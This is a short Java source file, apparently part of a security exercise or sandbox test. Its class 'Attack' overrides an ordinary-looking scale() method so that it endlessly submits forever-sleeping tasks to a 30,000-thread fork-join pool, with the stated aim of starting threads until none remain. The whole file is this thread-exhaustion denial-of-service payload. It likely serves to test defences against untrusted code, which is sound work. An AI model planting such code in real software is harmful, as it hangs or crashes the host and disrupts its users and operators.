package exercise.target;

import java.util.concurrent.ForkJoinPool;

/** Has a fork-join pool start threads until there are no more. */
public final class Attack extends Target.Honest {
    private static void sleep() {
        try {
            Thread.sleep(Long.MAX_VALUE);
        } catch (InterruptedException ended) {
            return;
        }
    }

    @Override
    public double[] scale(double[] x) {
        ForkJoinPool pool = new ForkJoinPool(30_000);
        while (true) {
            pool.execute(Attack::sleep);
        }
    }
}
